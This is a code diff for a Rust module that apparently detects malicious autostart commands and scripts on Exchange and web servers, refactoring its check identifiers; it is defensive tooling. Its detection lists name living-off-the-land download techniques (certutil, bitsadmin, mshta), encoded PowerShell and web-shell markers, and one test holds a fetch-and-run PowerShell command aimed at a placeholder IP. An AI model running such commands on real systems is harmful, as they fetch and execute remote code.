@@ -1,12 +1,14 @@
 //! What a command line or a script that runs by itself does to the web server: writes pages, runs from where no program belongs,
 //! hides or fetches what it runs. Names prove nothing (`\Microsoft\Windows\...` is anybody's to write), so commands alone are judged.
 
+pub mod checks;
+
 use super::discover::EXCHANGE_WEB;
 use super::{Area, Plan};
 use crate::evidence::{Evidence, Resolver, classify};
 use crate::model::place::kind;
 use crate::model::server_path::{extension, fold, same_name};
-use crate::model::{Problem, ProblemKind, Reason, ReasonKind, Role, ServerPath};
+use crate::model::{CheckInfo, Location, Problem, ProblemKind, Reason, Role, ServerPath};
 use std::io::Read;
 
 /// What is read of a script, a task or a list of scripts.
@@ -33,7 +35,7 @@ pub(super) struct Ground<'g, 'e> {
 /// One thing that speaks against a command.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(super) struct Sign {
-    pub(super) id: &'static str,
+    pub(super) check: &'static CheckInfo,
     pub(super) score: u8,
     words: &'static str,
 }
@@ -41,17 +43,17 @@ pub(super) struct Sign {
 impl Sign {
     /// A script among signed ones: somebody's own, or changed after setup.
     pub(super) fn unsigned() -> Self {
-        Self { id: "unsigned_script", score: 25, words: "has no signature, as the others here have" }
+        Self { check: &checks::UNSIGNED_SCRIPT, score: 25, words: "has no signature, as the others here have" }
     }
 
     /// A library of PHP that lies nowhere near it.
     pub(super) fn extension() -> Self {
-        Self { id: "php_extension_path", score: 30, words: "one that lies outside of its folder" }
+        Self { check: &checks::PHP_EXTENSION_PATH, score: 30, words: "one that lies outside of its folder" }
     }
 
     /// Code before every page of PHP, as firewalls of plugins and profilers have it too.
     pub(super) fn prepended() -> Self {
-        Self { id: "php_auto_prepend", score: 30, words: "runs a file before or after every page" }
+        Self { check: &checks::PHP_AUTO_PREPEND, score: 30, words: "runs a file before or after every page" }
     }
 }
 
@@ -296,9 +298,9 @@ impl<'g, 'e> Ground<'g, 'e> {
             text.lines().any(|line| of(line, one) && of(line, other))
         };
         let mut signs = Vec::new();
-        let mut add = |id, score, words| signs.push(Sign { id, score, words });
+        let mut add = |check, score, words| signs.push(Sign { check, score, words });
         if has(&["powershell", "pwsh"]) && has_encoded(text) {
-            add("encoded_powershell", 60, "runs an encoded command");
+            add(&checks::ENCODED_POWERSHELL, 60, "runs an encoded command");
         }
         // The signature that Exchange's own scripts end with is not checked here, so it clears nothing on one line.
         let signed = is_script && has(&["# sig # begin signature block"]);
@@ -318,27 +320,27 @@ impl<'g, 'e> Ground<'g, 'e> {
             "xmlhttp",
         ];
         if together(FETCHES, RUNS) {
-            add("downloads_and_executes", 75, "runs what it fetches");
+            add(&checks::DOWNLOADS_AND_EXECUTES, 75, "runs what it fetches");
         } else if has(FETCHES) && has(RUNS) && !signed {
-            add("downloads_and_executes", 50, "fetches something and runs text");
+            add(&checks::DOWNLOADS_AND_EXECUTES, 50, "fetches something and runs text");
         }
         if together(DECODES, RUNS) || together(DECODES, STORES) {
-            add("decodes_payload", 65, "decodes what it runs or writes");
+            add(&checks::DECODES_PAYLOAD, 65, "decodes what it runs or writes");
         } else if has(DECODES) && (has(RUNS) || has(STORES)) && !signed {
-            add("decodes_payload", 50, "decodes something, and runs or writes text");
+            add(&checks::DECODES_PAYLOAD, 50, "decodes something, and runs or writes text");
         }
         const ELSEWHERE: &[&str] = &["http:", "https:", "javascript:", "vbscript:", "scrobj"];
         if together(&["mshta", "rundll32", "regsvr32"], ELSEWHERE) {
-            add("lolbin_remote_script", 75, "lets a program of Windows run a script from elsewhere");
+            add(&checks::LOLBIN_REMOTE_SCRIPT, 75, "lets a program of Windows run a script from elsewhere");
         }
         if together(&["certutil"], &["urlcache", "verifyctl", "decode"])
             || together(&["bitsadmin"], &["\\transfer", "\\addfile"])
             || !signed && has(&["downloadfile(", "start-bitstransfer"])
         {
-            add("lolbin_download", 55, "fetches or unpacks a file by a program of Windows");
+            add(&checks::LOLBIN_DOWNLOAD, 55, "fetches or unpacks a file by a program of Windows");
         }
         if has(&["<%@", "<%=", "runat=\"server\"", "runat=server", "<?php", "request.item[", "eval(request"]) {
-            add("contains_server_code", 75, "holds the code of a page");
+            add(&checks::CONTAINS_SERVER_CODE, 75, "holds the code of a page");
         }
         let lines: Vec<&str> = text.split(['\n', '\r']).collect();
         // Exchange's own scripts handle its pages and configuration by variables; whole paths are nobody's but an intruder's.
@@ -347,9 +349,9 @@ impl<'g, 'e> Ground<'g, 'e> {
         let page_there = || tokens(text).iter().any(|token| is_page(token) && self.is_web(token));
         let by_parts = is_script && !signed && has(WRITERS) && page_there();
         if writes_page || by_parts {
-            add("writes_server_code", 75, "writes server code");
+            add(&checks::WRITES_SERVER_CODE, 75, "writes server code");
         } else if !signed && lines.iter().any(|line| self.writes_to_web(line)) {
-            add("writes_to_web_folder", 60, "writes into a web folder");
+            add(&checks::WRITES_TO_WEB_FOLDER, 60, "writes into a web folder");
         }
         signs
     }
@@ -389,20 +391,24 @@ impl<'g, 'e> Ground<'g, 'e> {
                 continue;
             }
             let sign = if path.starts_with("\\\\") {
-                Some(Sign { id: "runs_from_remote_host", score: 30, words: "runs what lies on another machine" })
+                Some(Sign {
+                    check: &checks::RUNS_FROM_REMOTE_HOST,
+                    score: 30,
+                    words: "runs what lies on another machine",
+                })
             } else if is_stock_service(path) {
                 None
             } else if self.is_web(path) {
                 // Pages of PHP that a timer runs are ordinary.
                 let php = !is_program && kind::PHP.contains(&extension(path).as_str());
                 Some(Sign {
-                    id: "runs_from_web_folder",
+                    check: &checks::RUNS_FROM_WEB_FOLDER,
                     score: if php { 25 } else { 60 },
                     words: "runs what lies in a web folder",
                 })
             } else {
                 drop_folder(path).map(|score| Sign {
-                    id: "runs_from_drop_folder",
+                    check: &checks::RUNS_FROM_DROP_FOLDER,
                     score,
                     words: "runs what lies where no program belongs",
                 })
@@ -645,22 +651,9 @@ fn has_encoded(text: &str) -> bool {
 /// Notes what speaks against a command of a file, which is examined then.
 pub(super) fn note(plan: &mut Plan, file: &ServerPath, signs: &[Sign], title: &str, excerpt: &str) {
     for sign in signs {
-        let reason = Reason {
-            id: format!("config/autostart_{}", sign.id),
-            kind: ReasonKind::Config,
-            score: sign.score,
-            title: format!("{title}{}", sign.words),
-            locations: vec![crate::model::Location {
-                offset: 0,
-                length: 0,
-                encodings: "stored".to_owned(),
-                line: None,
-                excerpt: excerpt.trim().chars().take(EXCERPT).collect(),
-                role: None,
-            }],
-            rule: None,
-            path: Vec::new(),
-        };
+        let excerpt: String = excerpt.trim().chars().take(EXCERPT).collect();
+        let locations = vec![Location::of_file("stored", excerpt)];
+        let reason = Reason::new(sign.check, sign.score, format!("{title}{}", sign.words), locations);
         let noted = plan.noted.entry(file.clone()).or_default();
         if noted.len() < 20 && !noted.iter().any(|known| known.id == reason.id) {
             noted.push(reason);
@@ -705,10 +698,10 @@ mod tests {
         }
         let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
         let line = ground.plain(line);
-        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
+        let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.check.name()).collect();
         if !is_script {
             let (program, tokens) = ground.placed(&line, "");
-            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.id));
+            signs.extend(ground.place(&program, &tokens).iter().map(|sign| sign.check.name()));
         }
         signs
     }
@@ -755,7 +748,10 @@ mod tests {
             signs("$c = New-Object Net.WebClient\nInvoke-Expression $x\n# SIG # Begin signature block", true),
             [""; 0]
         );
-        assert_eq!(signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true), ["downloads_and_executes"]);
+        assert_eq!(
+            signs("iex (iwr http://203.0.113.9/a)\n# SIG # Begin signature block", true),
+            ["downloads_and_executes"]
+        );
     }
 
     proptest::proptest! {
